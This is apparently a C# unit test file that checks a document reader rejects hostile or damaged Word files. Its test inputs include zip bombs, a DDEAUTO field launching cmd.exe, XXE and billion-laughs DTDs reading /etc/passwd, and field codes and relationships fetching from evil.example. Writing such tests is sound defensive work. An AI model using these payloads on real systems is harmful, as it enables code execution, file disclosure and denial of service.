using System.IO.Compression;
using System.Text;
using PlanBot.Core.Documents;
using PlanBot.Documents;
using Xunit;
using static PlanBot.Tests.Documents.WordFiles;

namespace PlanBot.Tests.Documents;

/// <summary>Files that mean harm, or are broken: each is refused for its own reason, soon, and nothing is fetched.</summary>
public sealed class Hostile_documents
{
    private static readonly byte[] Harmless = Pack(P("Plan"));

    public static TheoryData<string, string> External => new()
    {
        { "word/_rels/settings.xml.rels", "attachedTemplate" },
        { "word/_rels/document.xml.rels", "image" },
        { "word/_rels/document.xml.rels", "oleObject" },
        { "word/_rels/document.xml.rels", "subDocument" },
        { "word/_rels/header1.xml.rels", "frame" },
        { "_rels/.rels", "officeDocument" },
    };

    [Fact]
    public async Task A_harmless_one_is_read() => Assert.IsType<ReceivedDocument.Written>(await ReadAsync(Harmless));

    [Fact]
    public async Task Ten_megabytes_are_too_large() => Assert.Equal(DocumentProblem.TooLarge, await WhyAsync(new byte[10 * 1024 * 1024]));

    /// <summary>64 MB in some 64 KB: it is counted while it unpacks, and never held whole.</summary>
    [Fact]
    public async Task A_zip_bomb_is_too_large()
    {
        var bomb = PackBytes("", ("word/document.xml", Encoding.UTF8.GetBytes(Document($"<w:p><w:r><w:t>{new string('a', 64 * 1024 * 1024)}</w:t></w:r></w:p>"))));
        Assert.InRange(bomb.Length, 0, 200 * 1024);

        var before = GC.GetTotalAllocatedBytes(precise: true);
        Assert.Equal(DocumentProblem.TooLarge, await WhyAsync(bomb));
        Assert.InRange(GC.GetTotalAllocatedBytes(precise: true) - before, 0, 64L * 1024 * 1024);
    }

    /// <summary>The zip's own list says 10 bytes; what comes out is not what it says, and is never believed.</summary>
    [Fact]
    public async Task A_zip_bomb_that_lies_about_its_size_is_refused()
    {
        var bomb = PackBytes("", ("word/document.xml", Encoding.UTF8.GetBytes(Document($"<w:p><w:r><w:t>{new string('a', 64 * 1024 * 1024)}</w:t></w:r></w:p>"))));
        foreach (var at in Enumerable.Range(0, bomb.Length - 28).Where(at => bomb.AsSpan(at).StartsWith("PK\u0001\u0002"u8)))
            BitConverter.TryWriteBytes(bomb.AsSpan(at + 24), 10);

        Assert.Contains(await WhyAsync(bomb), (DocumentProblem[])[DocumentProblem.TooLarge, DocumentProblem.Unreadable]);
    }

    [Fact]
    public async Task Many_small_parts_count_together() =>
        Assert.Equal(DocumentProblem.TooLarge, await WhyAsync(Pack("", [.. Enumerable.Range(1, 20).Select(part => ($"word/part{part}.xml", $"<x>{new string('a', 1024 * 1024)}</x>"))])));

    [Fact]
    public async Task More_parts_than_any_document_has_are_too_many() =>
        Assert.Equal(DocumentProblem.TooLarge, await WhyAsync(Pack("", [.. Enumerable.Range(1, 2001).Select(part => ($"word/media/{part}.png", ""))])));

    [Theory]
    [MemberData(nameof(External))]
    public async Task What_would_be_fetched_from_outside_is_refused(string part, string type) =>
        Assert.Equal(DocumentProblem.ReachesOut, await WhyAsync(Pack(P("Plan"), (part, Relationships(type, "https://evil.example/x")))));

    [Fact]
    public async Task A_link_is_no_danger() =>
        Assert.IsType<ReceivedDocument.Written>(await ReadAsync(Pack(P("Plan"), ("word/_rels/document.xml.rels", Relationships("hyperlink", "https://lovdata.no/")))));

    [Theory]
    [InlineData("""<w:altChunk r:id="rId9"/>""")]
    [InlineData("""<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example/x&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>""")]
    [InlineData("""<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\cmd.exe </w:instrText></w:r></w:p>""")]
    [InlineData("""<w:tbl><w:tr><w:tc><w:p><w:r><w:instrText>INCLUDETEXT "https://evil.example"</w:instrText></w:r></w:p></w:tc></w:tr></w:tbl>""")]
    public async Task What_would_fetch_from_within_the_text_is_refused(string body) =>
        Assert.Equal(DocumentProblem.ReachesOut, await WhyAsync(Pack(body)));

    [Fact]
    public async Task An_embedded_page_is_refused() =>
        Assert.Equal(DocumentProblem.ReachesOut, await WhyAsync(Pack(P("Plan"), ("word/_rels/document.xml.rels", Relationships("aFChunk", "afchunk.html", "Internal")))));

    /// <summary>Billion laughs, and a file of the machine.</summary>
    [Theory]
    [InlineData("""<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>""")]
    [InlineData("""<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>""")]
    [InlineData("""<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">""")]
    public async Task A_DTD_is_refused(string dtd) =>
        Assert.Equal(DocumentProblem.Unreadable, await WhyAsync(Pack("", ("word/document.xml", dtd + Document(P("&a;"))))));

    [Fact]
    public async Task Nesting_without_end_is_refused() =>
        Assert.Equal(DocumentProblem.Unreadable, await WhyAsync(Pack(string.Concat(Enumerable.Repeat("<w:sdt><w:sdtContent>", 50_000)) + string.Concat(Enumerable.Repeat("</w:sdtContent></w:sdt>", 50_000)))));

    [Fact]
    public async Task Macros_are_refused_by_name_and_by_what_is_inside()
    {
        Assert.Equal(DocumentProblem.UnknownKind, await WhyAsync(Harmless, "plan.docm"));
        Assert.Equal(DocumentProblem.UnknownKind, await WhyAsync(Harmless, "plan.dotm"));
        Assert.Equal(DocumentProblem.Unreadable, await WhyAsync(Pack(P("Plan"), ("word/vbaProject.bin", "x"))));
        Assert.Equal(DocumentProblem.Unreadable, await WhyAsync(Pack(P("Plan"), ("[Content_Types].xml", """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"""))));
    }

    /// <summary>What Word makes of a document with a password, and what it wrote before 2007, both begin so.</summary>
    [Fact]
    public async Task A_protected_or_old_one_is_refused()
    {
        byte[] old = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[1000]];
        Assert.Equal(DocumentProblem.Unreadable, await WhyAsync(old));
        Assert.Equal(DocumentProblem.UnknownKind, await WhyAsync(old, "plan.doc"));
    }

    public static TheoryData<byte[]> Broken => new(
        [],
        "PK"u8.ToArray(),
        [.. Harmless.Take(Harmless.Length / 2)],
        Pack("", ("word/document.xml", "<w:document>")),
        Pack("", ("word/document.xml", "<x/>")),
        Pack("", ("_rels/.rels", "<x/>")),
        Pack("", ("[Content_Types].xml", "no XML")),
        NoParts());

    [Theory]
    [MemberData(nameof(Broken))]
    public async Task A_damaged_one_is_refused(byte[] file)
    {
        var document = await ReadAsync(file);
        Assert.True(document is ReceivedDocument.Refused { Why: DocumentProblem.Unreadable } or ReceivedDocument.Written { Blocks.Count: 0 }, document.ToString());
    }

    /// <summary>A byte wrong anywhere, or a bit of rubbish: never an exception.</summary>
    [Fact]
    public async Task Any_wrong_byte_is_survived()
    {
        var random = new Random(4);
        for (var run = 0; run < 300; run++)
        {
            var file = (byte[])Alta.Clone();
            for (var wrong = 0; wrong < 3; wrong++)
                file[random.Next(file.Length)] = (byte)random.Next(256);
            await ReadAsync(file);
        }
    }

    [Fact]
    public async Task A_picture_called_a_text_is_refused() => Assert.Equal(DocumentProblem.Unreadable, await WhyAsync([0x89, 0x50, 0x4E, 0x47, 0, 0, 0, 1, 0xFF], "plan.txt"));

    [Theory]
    [InlineData("plan.pdf")]
    [InlineData("plan")]
    [InlineData("")]
    [InlineData("plan.docx.exe")]
    [InlineData("../../plan.html")]
    public async Task Another_kind_is_refused_by_its_name(string name) => Assert.Equal(DocumentProblem.UnknownKind, await WhyAsync(Harmless, name));

    private static byte[] NoParts()
    {
        using var file = new MemoryStream();
        using (new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true))
        {
        }

        return file.ToArray();
    }

    private static async Task<ReceivedDocument> ReadAsync(byte[] file, string name = "plan.docx")
    {
        using var reader = new DocumentReader();
        return await reader.ReadAsync(name, file, CancellationToken.None);
    }

    private static async Task<DocumentProblem> WhyAsync(byte[] file, string name = "plan.docx") => Assert.IsType<ReceivedDocument.Refused>(await ReadAsync(file, name)).Why;
}
